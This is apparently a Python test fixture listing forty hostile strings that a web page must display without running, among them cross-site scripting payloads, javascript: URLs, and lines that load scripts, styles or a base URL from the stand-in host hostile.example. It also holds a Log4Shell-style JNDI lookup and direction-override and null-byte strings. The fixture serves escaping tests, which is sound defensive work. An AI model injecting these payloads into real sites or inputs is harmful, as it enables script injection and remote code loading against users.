"""Texts that try to get out of a page, and that a page has to show as they are."""

from __future__ import annotations

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=http://hostile.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://hostile.example/x.png>",
    '"onload="alert(1)',
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "javascript:alert(1)",
    "<base href=http://hostile.example/>",
    "<link rel=stylesheet href=http://hostile.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=http://hostile.example/><button autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "@import url(http://hostile.example/x.css);",
    "{{ 7 * 7 }}{% raw %}{# #}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;",
    "$5_{ vs $\\frac{1}",
    "%s%n{0}${jndi:ldap://hostile.example/x}",
)
"""Forty: none of them may run, load or vanish."""
TURNED = "\u202egnp.exe\u2066"
"""Turns the direction of what follows."""
HIDDEN = "nul\x00bell\x07"
WHOLE = "👩‍💻 نافذة नमस्ते"
"""Emoji, right-to-left and joined letters, which are no attack."""
